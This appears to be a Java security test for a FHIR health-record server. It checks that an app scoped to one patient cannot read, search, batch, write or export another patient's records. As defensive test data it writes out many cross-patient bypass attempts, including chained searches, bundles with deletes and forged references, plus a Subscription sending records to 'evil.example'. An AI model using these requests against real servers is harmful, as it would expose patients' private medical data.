package org.einthoven.server.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.List;
import org.einthoven.server.TestDatabase;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** An app that was launched for one patient finds nothing of another, on whatever way it asks. */
@QuarkusTest
@TestProfile(WithLogin.class)
@QuarkusTestResource(TestDatabase.class)
class CompartmentAttacksTest {

  @BeforeEach
  void store() {
    TwoPatients.store();
  }

  private static RequestSpecification app() {
    return Tokens.as("app-login-a", "patient/*.cruds");
  }

  private static int status(String address) {
    return app().get("/fhir/" + address).statusCode();
  }

  private static List<String> found(String address) {
    Response answer = app().get("/fhir/" + address);
    List<String> found = TwoPatients.found(answer);
    assertThat(answer.asString())
        .doesNotContain("\"family\":\"Beta\"")
        .doesNotContain("login-obs-b2");
    return found;
  }

  @Test
  void itsOwnPatientsRecordIsThere() {
    assertThat(status("Patient/login-a")).isEqualTo(200);
    assertThat(status("Observation/login-obs-a")).isEqualTo(200);
    assertThat(status("Practitioner/login-doctor")).isEqualTo(200);
    assertThat(found("Observation?_count=100")).contains("Observation/login-obs-a");
    assertThat(found("Patient")).containsExactly("Patient/login-a");
  }

  @Test
  void anotherPatientsRecordIsAsIfItWereNotThere() {
    for (String address :
        List.of(
            "Patient/login-b",
            "Observation/login-obs-b",
            "Observation/login-obs-b/_history/1",
            "Observation/login-obs-b/_history",
            "DocumentReference/login-document-b",
            "Binary/login-file-b",
            "DiagnosticReport/login-report-b",
            "Practitioner/login-only-b",
            "Patient/login-b/$everything")) {
      assertThat(status(address)).as(address).isEqualTo(404);
    }
    assertThat(app().get("/fhir/Patient/login-b").asString().replace("login-b", "ID"))
        .isEqualTo(app().get("/fhir/Patient/never-was").asString().replace("never-was", "ID"));
  }

  @Test
  void searchesFindNothingOfAnother() {
    for (String query :
        List.of(
            "Observation?patient=login-b",
            "Observation?subject=Patient/login-b",
            "Observation?_id=login-obs-b",
            "Patient?_id=login-b",
            "Patient?family=Beta",
            "Patient?family:not=Alpha",
            "Patient?birthdate=1960-01-01",
            "DocumentReference?patient=login-b",
            "DiagnosticReport?subject=Patient/login-b",
            "Practitioner?_id=login-only-b",
            "Binary?_id=login-file-b")) {
      Response answer = app().get("/fhir/" + query + "&_total=accurate");
      if (answer.statusCode() == 200) {
        assertThat(TwoPatients.found(answer)).as(query).isEmpty();
        assertThat(answer.jsonPath().getInt("total")).as(query).isZero();
      } else {
        assertThat(answer.statusCode()).as(query).isEqualTo(400);
      }
    }
    Response posted =
        app()
            .contentType("application/x-www-form-urlencoded")
            .formParam("patient", "login-b")
            .post("/fhir/Observation/_search");
    assertThat(TwoPatients.found(posted)).isEmpty();
    assertThat(found("Observation?_count=100"))
        .contains("Observation/login-obs-a", "Observation/login-moved")
        .doesNotContain("Observation/login-obs-b");
    assertThat(found("Observation?_sort=-date&_count=100"))
        .doesNotContain("Observation/login-obs-b");
  }

  @Test
  void countsAreOfItsOwnPatientAlone() {
    int all = app().get("/fhir/Observation?_summary=count").jsonPath().getInt("total");
    assertThat(found("Observation?_count=500")).hasSize(all);
  }

  @Test
  void includesBringNothingOfAnother() {
    assertThat(found("Observation?_id=login-derived-a&_include=Observation:derived-from"))
        .containsExactly("Observation/login-derived-a");
    assertThat(found("Practitioner?_id=login-doctor&_revinclude=Observation:performer"))
        .contains("Practitioner/login-doctor", "Observation/login-obs-a")
        .doesNotContain("Observation/login-obs-b");
    assertThat(
            found(
                "Observation?_id=login-derived-a&_include:iterate=Observation:*"
                    + "&_revinclude:iterate=Observation:performer"))
        .doesNotContain("Observation/login-obs-b", "Patient/login-b");
  }

  @Test
  void chainsTellNothingOfAnother() {
    assertThat(found("Observation?derived-from:Observation.subject=Patient/login-b")).isEmpty();
    assertThat(found("Observation?derived-from:Observation.patient.family=Beta")).isEmpty();
    assertThat(found("Practitioner?_has:Observation:performer:subject=Patient/login-b")).isEmpty();
    assertThat(found("Practitioner?_has:Observation:performer:patient.family=Beta")).isEmpty();
    assertThat(found("Practitioner?_has:Observation:performer:patient.family=Alpha"))
        .containsExactly("Practitioner/login-doctor");
    assertThat(found("Observation?patient.family=Beta")).isEmpty();
    assertThat(status("Patient?_has:AuditEvent:entity:agent-name=x")).isEqualTo(403);
  }

  @Test
  void aVersionFromWhenItWasAnothersIsNotShown() {
    Response history = app().get("/fhir/Observation/login-moved/_history?_count=100");
    assertThat(TwoPatients.found(history)).isNotEmpty();
    assertThat(history.asString()).contains("Patient/login-a").doesNotContain("login-b");
    assertThat(status("Observation/login-moved/_history/1")).isEqualTo(404);
    assertThat(status("Observation/login-moved/_history/2")).isEqualTo(200);
  }

  @Test
  void historiesOfManyAreNotForIt() {
    assertThat(status("_history")).isEqualTo(403);
    assertThat(status("Observation/_history")).isEqualTo(403);
  }

  @Test
  void aBundleIsNoWayRound() {
    String bundle =
        """
        {'resourceType':'Bundle','type':'batch','entry':[
         {'request':{'method':'GET','url':'Observation/login-obs-b'}},
         {'request':{'method':'GET','url':'Observation?patient=login-b'}},
         {'request':{'method':'GET','url':'AuditEvent'}},
         {'request':{'method':'DELETE','url':'Observation/login-obs-b'}},
         {'request':{'method':'DELETE','url':'Observation?patient=login-b'}},
         {'request':{'method':'PUT','url':'Observation/login-obs-b'},'resource':OBSERVATION},
         {'request':{'method':'PUT','url':'Observation?_id=login-obs-b'},'resource':OBSERVATION},
         {'request':{'method':'GET','url':'Observation/login-obs-a'}}]}
        """
            .replace('\'', '"')
            .replace(
                "OBSERVATION",
                TwoPatients.json(
                    "Observation",
                    "login-obs-b",
                    TwoPatients.observation("login-a", "login-doctor")));
    Response answer = app().body(bundle).post("/fhir");
    assertThat(answer.statusCode()).as(answer.asString()).isEqualTo(200);
    assertThat(answer.jsonPath().getList("entry.response.status", String.class))
        .containsExactly("404", "200", "403", "403", "403", "404", "404", "200");
    assertThat(answer.jsonPath().getInt("entry[1].resource.total")).isZero();
    Response whole = app().body(bundle.replace("\"batch\"", "\"transaction\"")).post("/fhir");
    assertThat(whole.statusCode()).isGreaterThanOrEqualTo(400);
    assertThat(unchanged()).contains("login-b");
  }

  @Test
  void everythingIsOfItsOwnPatient() {
    assertThat(found("Patient/login-a/$everything?_count=500"))
        .contains("Patient/login-a", "Observation/login-obs-a", "Practitioner/login-doctor")
        .doesNotContain("Patient/login-b", "Observation/login-obs-b");
    assertThat(found("Observation/$lastn?patient=login-b&max=5")).isEmpty();
    assertThat(found("Observation/$lastn?patient=login-a&max=5")).isNotEmpty();
  }

  @Test
  void operationsOnManyAreNotForIt() {
    for (String address :
        List.of(
            "$export", "Patient/$export", "$meta", "Observation/$meta", "Patient/login-a/$meta")) {
      assertThat(app().header("Prefer", "respond-async").get("/fhir/" + address).statusCode())
          .as(address)
          .isEqualTo(403);
    }
    for (String address :
        List.of(
            "Observation/$analyze",
            "Observation/login-obs-b/$analyze",
            "Patient/login-b/$analyze",
            "Observation/login-obs-b/$validate",
            "Patient/$merge",
            "DiagnosticReport/login-report-b/$acknowledge")) {
      assertThat(
              app().body("{\"resourceType\":\"Parameters\"}").post("/fhir/" + address).statusCode())
          .as(address)
          .isEqualTo(403);
    }
    for (String address :
        List.of("/ecg", "/audit/checkpoint", "/outbox", "/models", "/q/metrics")) {
      assertThat(app().post(address).statusCode()).as(address).isEqualTo(403);
    }
  }

  @Test
  void nothingIsKeptForItToFetchLater() {
    Response answer =
        app().header("Prefer", "respond-async").get("/fhir/Observation?patient=login-b");
    assertThat(TwoPatients.found(answer)).isEmpty();
    String some = "/00000000-0000-7000-8000-000000000000";
    assertThat(app().get("/async" + some).statusCode()).isEqualTo(403);
    assertThat(app().get("/bulk" + some).statusCode()).isEqualTo(403);
  }

  @Test
  void itMayWriteObservationsOfItsOwnPatient() {
    assertThat(create(TwoPatients.observation("login-a", "login-doctor"))).isEqualTo(201);
  }

  @Test
  void itWritesNothingOfAnother() {
    String subject = "'status':'final','code':{'text':'x'},'subject':";
    String performer = ",'performer':[{'reference':'Patient/login-a'}]";
    for (String fields :
        List.of(
            TwoPatients.observation("login-b", "login-doctor"),
            subject + "{'reference':'Patient/login-b'}" + performer,
            subject + "{'identifier':{'value':'of b'}}" + performer,
            subject
                + "{'reference':'#b'}"
                + performer
                + ",'contained':[{'resourceType':'Patient','id':'b'}]",
            subject + "{'reference':'https://other.example/fhir/Patient/login-a'}",
            "'status':'final','code':{'text':'x'}" + performer,
            "'status':'final','code':{'text':'x'}",
            TwoPatients.observation("login-a", "login-only-b"),
            TwoPatients.observation("login-a", "login-doctor")
                + ",'derivedFrom':[{'reference':'Observation/login-obs-b'}]")) {
      assertThat(create(fields)).as(fields).isEqualTo(403);
    }
    String own = TwoPatients.observation("login-a", "login-doctor");
    assertThat(put("Observation", "login-obs-b", own)).isEqualTo(404);
    assertThat(put("Observation", "login-never-was", own)).isEqualTo(404);
    assertThat(
            put("Observation", "login-obs-a", TwoPatients.observation("login-b", "login-doctor")))
        .isEqualTo(403);
    assertThat(patch("login-obs-b", "/status", "amended")).isEqualTo(404);
    assertThat(patch("login-obs-a", "/subject/reference", "Patient/login-b")).isEqualTo(403);
    assertThat(app().delete("/fhir/Observation/login-obs-b").statusCode()).isEqualTo(403);
    assertThat(app().delete("/fhir/Observation/login-obs-a").statusCode()).isEqualTo(403);
    assertThat(unchanged()).contains("login-b");
  }

  @Test
  void aRefusedWriteDoesNotTellWhoIsAPatientHere() {
    String base = RestAssured.get("/fhir/metadata").path("implementation.url");
    String another = TwoPatients.observation("login-b", "login-doctor");
    String nobody = TwoPatients.observation("never-was", "login-doctor");

    assertThat(create(another)).isEqualTo(403).isEqualTo(create(nobody));
    assertThat(
            create(
                TwoPatients.observation("login-a", "login-doctor")
                    + ",'derivedFrom':[{'reference':'"
                    + base
                    + "/Observation/login-obs-b'}]"))
        .isEqualTo(403);
  }

  @Test
  void itWritesNothingThatWouldOpenAnothersRecord() {
    String file =
        "'status':'current','subject':{'reference':'Patient/login-a'},'content':[{'attachment':"
            + "{'contentType':'text/plain','url':'Binary/login-file-b'}}]";
    assertThat(create("DocumentReference", file)).isEqualTo(403);
    assertThat(
            create(
                "Subscription",
                "'status':'requested','reason':'x','criteria':'Observation?','channel':"
                    + "{'type':'rest-hook','endpoint':'https://evil.example/'}"))
        .isEqualTo(403);
    assertThat(create("Binary", "'contentType':'text/plain','data':'aGVsbG8='")).isEqualTo(403);
    assertThat(
            put(
                "Patient",
                "login-a",
                "'link':[{'other':{'reference':'Patient/login-b'},'type':'replaces'}]"))
        .isEqualTo(403);
    assertThat(status("Binary/login-file-b")).isEqualTo(404);
  }

  @Test
  void scopesBesideDoNotWidenIt() {
    RequestSpecification both = Tokens.as("app-login-a", "patient/*.rs", "user/*.cruds");
    assertThat(both.get("/fhir/Patient/login-b").statusCode()).isEqualTo(404);
  }

  @Test
  void anAppOfNobodySeesNobody() {
    for (String address : List.of("Patient", "Observation", "Practitioner")) {
      Response answer = Tokens.as("app-of-nobody", "patient/*.rs").get("/fhir/" + address);
      assertThat(TwoPatients.found(answer)).as(address).isEmpty();
    }
    assertThat(Tokens.as("app-of-nobody", "patient/*.rs").get("/fhir/Patient/login-a").statusCode())
        .isEqualTo(404);
  }

  private static int create(String fields) {
    return create("Observation", fields);
  }

  private static int create(String type, String fields) {
    return app().body(TwoPatients.json(type, "", fields)).post("/fhir/" + type).statusCode();
  }

  private static int put(String type, String id, String fields) {
    return app()
        .body(TwoPatients.json(type, id, fields))
        .put("/fhir/" + type + "/" + id)
        .statusCode();
  }

  private static int patch(String id, String path, String value) {
    return app()
        .contentType("application/json-patch+json")
        .body(
            "[{'op':'replace','path':'PATH','value':'VALUE'}]"
                .replace('\'', '"')
                .replace("PATH", path)
                .replace("VALUE", value))
        .patch("/fhir/Observation/" + id)
        .statusCode();
  }

  /** The other's Observation, as it is now. */
  private static String unchanged() {
    return Tokens.as("clinician", "user/*.cruds")
        .get("/fhir/Observation/login-obs-b")
        .jsonPath()
        .getString("subject.reference");
  }
}
